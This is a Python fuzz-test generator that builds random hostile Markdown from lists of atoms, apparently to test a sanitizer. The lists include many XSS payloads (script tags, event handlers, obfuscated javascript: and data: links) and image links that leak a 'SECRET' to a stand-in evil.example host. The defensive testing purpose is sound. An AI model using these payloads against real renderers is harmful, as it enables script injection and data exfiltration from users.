"""Hostile Markdown: a seeded generator of replies built from the atoms that broke or could break a sanitizer.

Every document joins random atoms with random separators: each Unicode line and paragraph separator, every C0
and C1 control character, fences of every shape, HTML blocks and inline tags, link and image destinations in
every disguise, reference definitions (escaped brackets in labels included), deep nesting past parser limits,
math, tables and plain text. `documents(n, seed)` is deterministic, so a failure names a reproducible document.
"""

import random

SEPARATORS = ['\n', '\n\n', '\r\n', '\r', '\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029', ' ', '',
              '\t', '\u200b', '\ufeff']
CONTROLS = [chr(c) for c in [*range(0x00, 0x20), *range(0x7f, 0xa0)]]
FENCES = ['```', '~~~', '````', '```python', '``` x`', '~~~ `', '```html', '   ```', '    ', '\t', '```\u2028',
          '```mermaid', '```py"onmouseover=alert(1)']
HTML = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>x</script>',
        '<a href="javascript:alert(1)">x</a>', '<!-- c', '-->', '<!-- c -->', '<details open ontoggle=alert(1)>',
        '<iframe src="javascript:alert(1)">', '<style>*{background:url(//evil/x)}</style>', '<b onmouseover=alert(1)>b</b>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<div>', '</div>', '<pre>', '</pre>', '<textarea>',
        '<?php x ?>', '<![CDATA[x]]>', '<x-y onclick=1>', '<img/src=x/onerror=alert(1)>', '<IMG SRC=javascript:alert(1)>',
        '<a href=" &#14;  javascript:alert(1)">x</a>', '<object data="data:text/html,x">', '<table background=javascript:x>',
        '<form action=javascript:alert(1)><button>x</button>', '<input onfocus=alert(1) autofocus>', '<base href=//evil/>',
        '<link rel=import href=//evil>', '<meta http-equiv=refresh content="0;javascript:x">', '<video poster=//evil/x>']
LINKS = ['[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](javascript&#58;alert(1))',
         '[x](&#x6A;avascript:alert(1))', '[x](java\nscript:alert(1))', '[x](<javascript:alert(1)>)',
         '[x]( javascript:alert(1))', '[x](vbscript:msgbox(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)',
         '![x](http://evil.example/p.png?q=SECRET)', '![x](//evil.example/p.png)', '![x](https:\\/\\/evil.example/p.png)',
         '[x](' + '(' * 40 + 'javascript:alert(1)' + ')' * 40 + ')', '[x](' + '(' * 33 + 'javascript:alert(1))',
         '<javascript:alert(1)>', '<http://example.com/a_b>', '[x](http://example.com "t")', '[x](<a b> "t")',
         '[x](java\tscript:alert(1))', '[x](\x00javascript:alert(1))', '[x](%6Aavascript:alert(1))',
         '![x](data:image/svg+xml,<svg onload=alert(1)>)', '[![x](http://evil/p.png)](http://example.com)',
         'http://evil.example/a_b_(c)', 'www.evil.example/x?y=<b>', 'mailto:a@b.c', '[x](mailto:a@b.c)']
REFS = ['[r]: javascript:alert(1)', '[a\\]b]: javascript:alert(1)', '[a\\]b]', '[x][r]', '[r]', '![x][img]',
        '[img]: http://evil.example/p.png', '[r]: <javascript:alert(1)>', '[R]: data:text/html,x', '[x][R]',
        '[a\\\\]: javascript:alert(1)', '[a\\\\]']
NESTING = ['>' * 50, '> ' * 30, '- ' * 30, '1. ' * 20, '*' * 50, '_' * 50, '[' * 40, ']' * 40, '`' * 40, '(' * 40,
           '    ' * 10, '\\' * 9, '*' * 3 + 'x' + '*' * 3]
MATH = ['$', '$$', '\\(', '\\)', '\\[', '\\]', '$x<y$', '$$<img src=x onerror=1>$$', '\\(<script>\\)', '$5', '$a_1$',
        '$\\href{javascript:alert(1)}{x}$', '$`x`$', '$](javascript:alert(1))$']
TABLE = ['|', '| a | b |', '|---|---|', '|:-:|--:|', '| <img src=x onerror=1> |', '| `|` |']
CODE = ['`<img src=x onerror=alert(1)>`', '``<script>x</script>``', '`x`', '` `` `', '`', '``',
        '$`<img src=x onerror=1>`$']
URLISH = ['ftp://x', 'http://x.y/z', 'https://a.b', 'www.a', 'www.example.com', 'foo.com', 'example.org/p', 'a@b.c',
          'mailto:', 'xmpp:a@b.c', 'x:', 'a.b', '://']
TEXT = ['hello', 'x < y & z', 'a_b_c', 'www.example.com', '&amp;', '&#60;script&#62;', '&lt;img src=x onerror=1&gt;',
        '#', '##', '-', '+', '=', '===', '---', '***', '1.', '2)', '- [ ] task', 'é', '🙂', '\\', '\\<', '\\`',
        'ftp://x', 'a@b.c', '!', ':', '"', "'", '=', '<', '>', '&', '<b', '</', '<!--', '<?']
ATOMS = [*FENCES, *HTML, *LINKS, *REFS, *NESTING, *MATH, *TABLE, *CODE, *URLISH, *TEXT]


def document(rng:random.Random, atoms:int=12)->str:
    "One hostile document: `atoms` random atoms, each followed by nothing, a separator or a control character."
    parts = []
    for _ in range(rng.randint(1, atoms)):
        parts.append(rng.choice(ATOMS))
        r = rng.random()
        parts.append('' if r < 0.3 else rng.choice(SEPARATORS) if r < 0.85 else rng.choice(CONTROLS))   # atoms touch
    return ''.join(parts)


def documents(n:int, seed:int=0)->list:
    "`n` hostile documents, the same for the same seed."
    rng = random.Random(seed)
    return [document(rng) for _ in range(n)]
